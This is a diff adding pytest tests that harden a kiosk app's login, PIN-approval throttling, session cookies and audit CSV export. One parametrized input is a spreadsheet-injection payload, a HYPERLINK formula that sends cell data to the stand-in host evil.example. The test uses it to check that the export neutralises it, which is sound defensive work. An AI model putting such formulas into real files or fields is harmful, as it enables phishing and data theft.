@@ -10,6 +10,7 @@ import pytest
 
 from kiosk import db
 from kiosk.audit import AuditType
+from kiosk.auth import NOT_A_USERNAME, PIN_ACCEPTED, PIN_LOCKED
 from kiosk_testing import ACCOUNTS, csrf_from, hand, login
 
 
@@ -525,18 +526,149 @@ def test_an_empty_pin_is_asked_for_not_counted_as_a_guess(settled, dealer, servi
 
 
 def test_right_pins_between_guesses_do_not_lift_the_ceiling(settled, audit):
-    """A dealer who tries four guesses between each real approval still meets a lock."""
-    for _ in range(4):
+    """A dealer who tries four guesses between each real approval still meets the day's
+    ceiling (was: 20 in the throttle window, ~600 guesses a day)."""
+    for _ in range(2):
         for _ in range(4):
             settled("9999", 403)
         settled("4321")
-    for _ in range(4):
-        settled("9999", 403)
-    assert "too many wrong PINs" in settled("4321", 403)
-    assert types(audit).count(AuditType.PIN_FAILED) == 20
+    settled("9999", 403)
+    assert PIN_LOCKED in settled("9999", 403)       # the tenth wrong PIN today
+    assert settled("4321", 403) == PIN_LOCKED
+    assert types(audit).count(AuditType.PIN_FAILED) == 10
 
 
 def test_the_pin_lock_still_stops_a_run_of_guesses(settled):
     for _ in range(5):
         settled("9999", 403)
     assert "too many wrong PINs" in settled("4321", 403)
+
+
+def test_a_right_pin_for_an_action_then_refused_is_on_record(settled, dealer, audit):
+    """A right guess among wrong ones, on an action the table refuses (409), wrote nothing:
+    only the guesser, reading the status, knew the PIN was right."""
+    r = dealer.post("/dealer/api/correct", {"seat": "1", "old": "AS", "new": "2S", "pin": "4321",
+                                            "round": "99", "reason": "x"}, status=409)
+    record = audit.last()
+    assert (record.type, record.actor, record.data["approved_by"]) == (PIN_ACCEPTED, "dealer1", "super1")
+    assert record.data["status"] == 409 and record.data["refused"] == r["error"]
+    settled("4321")         # an approval that goes through is on record as the action, once
+    assert types(audit).count(PIN_ACCEPTED) == 1 and audit.last().data["approved_by"] == "super1"
+
+
+def test_a_days_wrong_pins_lock_pin_approval_until_a_supervisor_logs_in(app, settled, audit):
+    """One guess at a time, waiting out each throttle, a dealer got ~600 PINs a day."""
+    app.config["THROTTLE_BASE_S"] = 0.0      # no waits: as patient a guesser as a day allows
+    for _ in range(9):
+        assert "not recognised" in settled("9999", 403)
+    assert settled("9998", 403) == f"supervisor PIN not recognised; {PIN_LOCKED}"
+    assert audit.last().type == AuditType.PIN_FAILED and "locked" in audit.last().data
+    written = len(audit.records())
+    assert settled("4321", 403) == PIN_LOCKED       # the right PIN too, and nothing more written
+    assert settled("9997", 403) == PIN_LOCKED
+    assert len(audit.records()) == written
+    login(app.test_client(), "dealer1")             # a dealer's login does not unlock it
+    assert settled("4321", 403) == PIN_LOCKED
+    login(app.test_client(), "super1")
+    assert audit.last().type == AuditType.LOGIN and audit.last().data["wrong_pins_cleared"] == 10
+    settled("4321")
+
+
+def test_a_throttled_login_flood_writes_one_record_per_window(app, client, audit):
+    """Every refused attempt was a record: ~385 a second from anyone at the login page."""
+    token = csrf_from(client.get("/auth/login").get_data(as_text=True))
+    form = {"username": "dealer1", "password": "wrong-guess-1", "csrf_token": token}
+    for _ in range(5):
+        assert client.post("/auth/login", data=form).status_code == 401
+    written = len(audit.records())
+    for _ in range(50):
+        assert client.post("/auth/login", data=form).status_code == 429
+    new = audit.records()[written:]
+    assert [(r.type, r.actor, r.data["reason"], r.data["refused_unlogged"]) for r in new] == \
+        [("login_failed", "dealer1", "throttled", 0)]
+    conn = db.connect(app.config["DATA_DIR"])
+    conn.execute("UPDATE throttle_log SET logged = logged - 3600")     # the window is over, the lock not
+    conn.close()
+    assert client.post("/auth/login", data=form).status_code == 429
+    assert audit.last().data["refused_unlogged"] == 49
+    assert len(audit.records()) == written + 2
+
+
+def test_a_replayed_expired_cookie_writes_one_session_timeout(app, client, audit):
+    """An old cookie, replayed, wrote a session_timeout in its owner's name each time."""
+    login(client, "super1")
+    cookie = client.get_cookie("niuniu_session").value
+    app.config["SESSION_IDLE_S"] = 0.05
+    time.sleep(0.1)
+    for _ in range(5):
+        replay = app.test_client()
+        replay.set_cookie("niuniu_session", cookie)
+        assert replay.get("/dealer/").location.startswith("/auth/login")
+    assert [(r.type, r.actor) for r in audit.records(types=[AuditType.SESSION_TIMEOUT])] == \
+        [("session_timeout", "super1")]
+
+
+def test_logout_ends_the_session_for_a_copy_of_its_cookie_too(app, client):
+    """Only the browser forgot a logged-out session: a copy of the cookie still worked.
+    The account's other sessions stay (logout ends this one)."""
+    token = login(client, "super1")
+    copied = client.get_cookie("niuniu_session").value
+    elsewhere = app.test_client()
+    login(elsewhere, "super1")
+    assert client.post("/auth/logout", data={"csrf_token": token}).status_code == 302
+    copy = app.test_client()
+    copy.set_cookie("niuniu_session", copied)
+    assert copy.get("/auth/whoami").status_code == 401
+    assert copy.post("/dealer/api/bet", json={"seat": "1", "amount": "10"},
+                     headers={"X-CSRF-Token": token}).status_code == 400
+    assert elsewhere.get("/auth/whoami").json["user"] == "super1"
+
+
+def test_a_session_from_before_session_ids_is_kept_and_then_ends_at_logout(app, client):
+    token = login(client, "dealer1")
+    with client.session_transaction() as cookie:
+        cookie.pop("sid")               # as a session made by the kiosk before the upgrade
+    assert client.get("/auth/whoami").json["user"] == "dealer1"
+    copied = client.get_cookie("niuniu_session").value
+    client.post("/auth/logout", data={"csrf_token": token})
+    copy = app.test_client()
+    copy.set_cookie("niuniu_session", copied)
+    assert copy.get("/auth/whoami").status_code == 401
+
+
+@pytest.mark.parametrize("typed", ['=HYPERLINK("http://evil.example/?"&A1,"Click to verify")', "-2+3",
+                                   "@SUM(A1)", "+1", "\x1b[31mred", "x" * 200])
+def test_a_failed_logins_actor_is_a_username_or_a_placeholder(client, audit, typed):
+    """The typed name was the actor, written as it is into the CSV export: a live formula."""
+    import csv
+    import io
+
+    token = csrf_from(client.get("/auth/login").get_data(as_text=True))
+    r = client.post("/auth/login", data={"username": typed, "password": "x" * 12, "csrf_token": token})
+    assert r.status_code == 401
+    record = audit.last()
+    assert (record.actor, record.data["typed"]) == (NOT_A_USERNAME, typed[:64])
+    login(client, "watch1")
+    rows = list(csv.reader(io.StringIO(client.get("/review/export?format=csv").get_data(as_text=True))))
+    actors = [row[4] for row in rows if "login_failed" in row]
+    assert actors == [NOT_A_USERNAME]
+
+
+def test_a_failed_login_by_a_possible_username_names_it(client, audit):
+    token = csrf_from(client.get("/auth/login").get_data(as_text=True))
+    client.post("/auth/login", data={"username": "no.such_user", "password": "x" * 12, "csrf_token": token})
+    assert (audit.last().actor, audit.last().data) == ("no.such_user", {"reason": "unknown user", "ip": "127.0.0.1"})
+
+
+def test_an_unknown_username_costs_a_password_check_too(client, monkeypatch):
+    """Skipping the hash for an unknown name answered in 5 ms against ~105 ms: which names exist."""
+    from kiosk import auth
+
+    checked = []
+    real = auth.check_password_hash
+    monkeypatch.setattr(auth, "check_password_hash", lambda hashed, secret: checked.append(1) or real(hashed, secret))
+    token = csrf_from(client.get("/auth/login").get_data(as_text=True))
+    for name in ("nosuchuser", "dealer1"):
+        assert client.post("/auth/login", data={"username": name, "password": "x" * 12,
+                                                "csrf_token": token}).status_code == 401
+    assert len(checked) == 2
